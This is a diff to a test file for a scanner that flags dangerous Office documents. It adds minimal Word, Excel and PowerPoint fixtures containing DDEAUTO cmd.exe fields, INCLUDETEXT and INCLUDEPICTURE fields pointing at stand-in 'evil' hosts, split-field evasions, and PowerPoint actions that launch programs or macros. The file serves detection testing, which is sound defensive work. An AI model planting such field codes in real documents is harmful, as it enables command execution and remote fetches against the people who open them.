@@ -164,6 +164,10 @@ def _field(text: str) -> bytes:
     return office(parts={"word/document.xml": word(text)})
 
 
+def _slide(element: str) -> bytes:
+    return office("ppt/presentation.xml", {"ppt/slides/slide1.xml": f"<p>{element}</p>"})
+
+
 def _rel(part: str, kind: str, target: str, **more: str) -> bytes:
     return office(parts={part: relations(kind, target, **more)})
 
@@ -185,6 +189,14 @@ DANGEROUS = [
     (_field('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>'), FileReachesOut),
     (_field("<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO cmd</w:instrText>"), FileReachesOut),
     (_field("<w:instrText> QUOTE 68 68 69 65 </w:instrText>"), FileReachesOut),
+    (_field('<w:fldSimple w:instr=" LINK Excel.Sheet.12 c:\\\\a.xlsx "/>'), FileReachesOut),
+    (_field("<w:instrText>DATABASE \\d c:\\a.mdb</w:instrText>"), FileReachesOut),
+    (_field('<w:instrText> INCLUDETEXT "\\\\\\\\evil\\\\a" </w:instrText>'), FileReachesOut),
+    (_field("<w:instrText> INCLUDETEXT http://evil.invalid/a </w:instrText>"), FileReachesOut),
+    (_field("<w:instrText> INCLUDEPICTURE file://evil/a.png </w:instrText>"), FileReachesOut),
+    (_field("<w:instrText> INCLUDE</w:instrText><w:r/><w:instrText>TEXT //evil/a</w:instrText>"), FileReachesOut),
+    (_slide('<a:hlinkHover xmlns:a="a" action="ppaction://program"/>'), FileHasMacros),
+    (_slide('<hlinkClick action="ppaction://macro?name=x"/>'), FileHasMacros),
     (office("xl/workbook.xml", {"xl/externalLinks/externalLink1.xml": "<x><ddeLink/></x>"}), FileReachesOut),
     (office("xl/workbook.xml", {"xl/connections.xml": '<x><connection refreshOnLoad="1"/></x>'}), FileReachesOut),
     (office("xl/workbook.xml", {"xl/macrosheets/sheet1.xml": "<x/>"}), FileHasMacros),
@@ -197,6 +209,8 @@ DANGEROUS = [
     (ole({"Workbook": b"\x2f\x00\x02\x00\0\0"}), FileLocked),
     (ole({"Workbook": b"\xae\x01\x0a\x00\x01\x00\x05\x00\x00cmd\x03x"}), FileReachesOut),
     (ole({"WordDocument": bytes(600) + b"\x13 DDEAUTO c:\\cmd.exe"}), FileReachesOut),
+    (ole({"WordDocument": bytes(600) + b"\x13 QUOTE 68 68 69 65 "}), FileReachesOut),
+    (ole({"WordDocument": bytes(600) + "\x13 QUOTE 68 68 69 ".encode("utf-16-le")}), FileReachesOut),
     (ole({"WordDocument": b"", "1Table": "http://evil.invalid/a.dotm".encode("utf-16-le")}), FileReachesOut),
     (ole({"WordDocument": bytes(11) + b"\x01"}), FileLocked),
     (ole({"WordDocument": b"", "\x01Ole10Native": b""}), FileHasMacros),
@@ -220,6 +234,9 @@ HARMLESS = [
     _rel("word/_rels/document.xml.rels", "hyperlink", "https://example.invalid/"),
     _rel("word/_rels/document.xml.rels", "image", "https://example.invalid/a.png"),
     _field("<w:instrText> PAGE </w:instrText><w:t>DDE is a word</w:t>"),
+    _field('<w:instrText> INCLUDEPICTURE "https://example.invalid/a.png" </w:instrText>'),
+    _field("<w:instrText> HYPERLINK https://example.invalid/ </w:instrText><w:t>LINK //a</w:t>"),
+    _slide('<hlinkClick action="ppaction://hlinksldjump"/>'),
     ole({"Workbook": b"\x85\x00\x08\x00\0\0\0\0\0\x00\0\0" + b"\xae\x01\x04\x00\x01\x00\x01\x04"}),
     ole({"WordDocument": bytes(600) + b"\x13 PAGE "}),
 ]
